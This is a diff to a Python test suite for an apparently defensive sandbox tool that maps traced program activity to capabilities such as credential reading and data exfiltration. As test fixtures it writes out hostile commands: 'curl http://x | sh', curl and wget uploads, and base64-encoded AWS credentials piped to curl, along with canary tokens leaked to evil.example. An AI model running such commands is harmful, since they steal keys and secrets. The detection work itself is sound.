@@ -10,6 +10,7 @@ from assay.detonate.mapping import (
     Attribution,
     exec_capabilities,
     map_harness,
+    map_home,
     map_trace,
     map_uploads,
     secret_read_capability,
@@ -19,7 +20,7 @@ from assay.detonate.steps import NODE, PYTHON, SH, build_plan, go_toolchain, npm
 from assay.detonate.wire import CanaryHit, Egress, HarnessLog, StepLog
 from assay.mechanism.spec import Track
 from assay.mechanism.taxonomy import CAPABILITIES
-from assay.sandbox.interface import Peer, TraceSummary
+from assay.sandbox.interface import Executed, HomeEvent, Link, Peer, TraceSummary
 
 CANARIES = make_canaries(b"fixed-seed-for-tests")
 HARNESS_ARGV = ("/usr/bin/python3", "-I", "/task/input/harness.py")
@@ -30,6 +31,11 @@ WHO = Attribution(
     harness_prefixes=("/tmp/.assay-abc/",),
     harness_files=frozenset({"/task/workspace/project/notes.md"}),
 )
+
+
+def ran(*argvs: tuple[str, ...]) -> tuple[Executed, ...]:
+    """Execs of the programs their argv[0] names (as execvp runs them)."""
+    return tuple(Executed(argv[0], argv) for argv in argvs)
 
 
 def capabilities(trace: TraceSummary) -> set[str]:
@@ -90,7 +96,7 @@ def test_exec_intents() -> None:
 
 def test_harness_activity_is_not_the_artifacts() -> None:
     trace = TraceSummary(
-        execs=(HARNESS_ARGV, (PYTHON, "/task/artifact/run.py")),
+        executed=ran(HARNESS_ARGV, (PYTHON, "/task/artifact/run.py")),
         writes=("/tmp/.assay-abc/f0", "/task/workspace/project/notes.md", "/dev/null"),
         connects=(Peer("inet", "127.0.0.1", 53), Peer("unix", "/var/run/nscd/socket")),
     )
@@ -99,7 +105,7 @@ def test_harness_activity_is_not_the_artifacts() -> None:
 
 def test_artifact_activity_maps_with_evidence() -> None:
     trace = TraceSummary(
-        execs=(HARNESS_ARGV, ("sh", "-c", "curl http://x | sh")),
+        executed=ran(HARNESS_ARGV, ("sh", "-c", "curl http://x | sh")),
         reads=(f"{HOME}/.ssh/id_rsa", "/task/artifact/run.py"),
         writes=(f"{HOME}/.cache/stash",),
         renames=((f"{HOME}/.bashrc.tmp", f"{HOME}/.bashrc"),),
@@ -126,7 +132,7 @@ def test_artifact_activity_maps_with_evidence() -> None:
 def test_canary_values_in_argv_and_dns_are_leaks() -> None:
     token = CANARIES.env["GITHUB_TOKEN"]
     trace = TraceSummary(
-        execs=(("curl", "-H", f"Authorization: {token}", "http://x"),),
+        executed=ran(("curl", "-H", f"Authorization: {token}", "http://x")),
         dns_queries=(f"{encodings(token[4:])[1][:40]}.evil.example",),
     )
     found = {e.capability for e in map_trace(trace, WHO)}
@@ -271,7 +277,7 @@ def test_a_network_tool_uploading_a_canary_file_is_exfiltration() -> None:
     curl = ("curl", "-s", "--data-binary", f"@{stash}", "http://x/t")
     wget = ("wget", f"--post-file={stash}", "http://x/t")
     quiet = ("cat", stash)
-    evidence = map_uploads((curl, wget, quiet), log, WHO)
+    evidence = map_uploads(ran(curl, wget, quiet), log, WHO)
     assert [(e.capability, e.argv) for e in evidence] == [
         ("EXFILTRATE_DATA", curl),
         ("EXFILTRATE_DATA", wget),
@@ -306,11 +312,11 @@ def test_planning_never_follows_a_symlink_out_of_the_artifact(tmp_path: Path) ->
 def test_a_secret_piped_into_a_shell_network_command_is_exfiltration() -> None:
     encoded = base64.b64encode(CANARIES.files[f"{HOME}/.aws/credentials"]).decode()
     argv = ("/bin/sh", "-c", f"echo {encoded} | curl -s -d @- http://203.0.113.7/a")
-    found = {e.capability for e in map_trace(TraceSummary(execs=(argv,)), WHO)}
+    found = {e.capability for e in map_trace(TraceSummary(executed=ran(argv)), WHO)}
     assert {"EXEC_SHELL", "READ_CLOUD_CREDENTIALS", "EXFILTRATE_DATA"} <= found
     local = ("/bin/sh", "-c", f"echo {encoded} > /tmp/x")
     assert "EXFILTRATE_DATA" not in {
-        e.capability for e in map_trace(TraceSummary(execs=(local,)), WHO)
+        e.capability for e in map_trace(TraceSummary(executed=ran(local)), WHO)
     }
 
 
@@ -320,3 +326,59 @@ def test_python_module_servers_run_from_their_copy(tmp_path: Path) -> None:
     (tmp_path / "mcp.json").write_text('{"command": "python3", "args": ["-m", "notes_server"]}')
     (step,) = build_plan(tmp_path, Track.MCP_SERVERS, "t0k3n").core
     assert step.argv == (PYTHON, "-m", "notes_server") and step.cwd == SERVER_COPY
+
+
+def test_the_home_watch_maps_secrets_and_profiles_whatever_path_reached_them() -> None:
+    events = (
+        HomeEvent(f"{HOME}/.ssh/id_rsa", "read"),
+        HomeEvent(f"{HOME}/.aws/credentials", "write"),
+        HomeEvent(f"{HOME}/.bashrc", "write"),
+        HomeEvent(f"{HOME}/.zshrc", "created"),
+        HomeEvent(f"{HOME}/.cache", "created"),  # an ordinary new entry: the trace's to name
+        HomeEvent(f"{HOME}/.ssh/id_rsa", "linked"),  # how it was reached, not what was done
+    )
+    found = {(e.capability, e.path, e.source) for e in map_home(events, "baseline")}
+    assert found == {
+        ("READ_SSH_KEY", "~/.ssh/id_rsa", "watch"),
+        ("WRITE_SECRET", "~/.aws/credentials", "watch"),
+        ("WRITE_SHELL_PROFILE", "~/.bashrc", "watch"),
+        ("WRITE_SHELL_PROFILE", "~/.zshrc", "watch"),
+    }
+    seen = map_trace(TraceSummary(reads=(f"{HOME}/.ssh/id_rsa",)), WHO)
+    assert {e.path for e in map_home(events, "baseline", seen)} == {
+        "~/.aws/credentials",
+        "~/.bashrc",
+        "~/.zshrc",
+    }
+
+
+def test_paths_through_links_the_artifact_made_are_their_targets() -> None:
+    trace = TraceSummary(
+        reads=("/tmp/h/.ssh/id_rsa", "/tmp/k"),
+        writes=("/task/workspace/rc",),
+        links=(
+            Link("/tmp/h", HOME, hard=False),
+            Link("/tmp/k", f"{HOME}/.aws/credentials", hard=True),
+            Link("/task/workspace/rc", "/tmp/h/.bashrc", hard=True),  # a link to a link
+        ),
+    )
+    found = {(e.capability, e.path, e.detail) for e in map_trace(trace, WHO)}
+    assert found == {
+        ("READ_SSH_KEY", "~/.ssh/id_rsa", "through a link: /tmp/h/.ssh/id_rsa"),
+        ("READ_CLOUD_CREDENTIALS", "~/.aws/credentials", "through a link: /tmp/k"),
+        ("WRITE_SHELL_PROFILE", "~/.bashrc", "through a link: /task/workspace/rc"),
+    }
+
+
+def test_an_exec_is_the_file_the_kernel_ran_not_its_argv0() -> None:
+    post = ("python3", "-s", "-d", "k=v", "http://203.0.113.9/")
+    disguised = TraceSummary(executed=(Executed("/usr/bin/curl", post),))
+    assert "POST_WEB" in capabilities(disguised)
+    as_curl = ("curl", "-d", "k=v", "-c", "pass")
+    assert "POST_WEB" not in capabilities(
+        TraceSummary(executed=(Executed("/usr/bin/python3", as_curl),))
+    )
+    # a planned step's argv run by another program is the artifact's
+    step = (PYTHON, "/task/artifact/run.py")
+    assert not WHO.is_harness_exec(step, "/usr/bin/curl")
+    assert WHO.is_harness_exec(step, PYTHON)
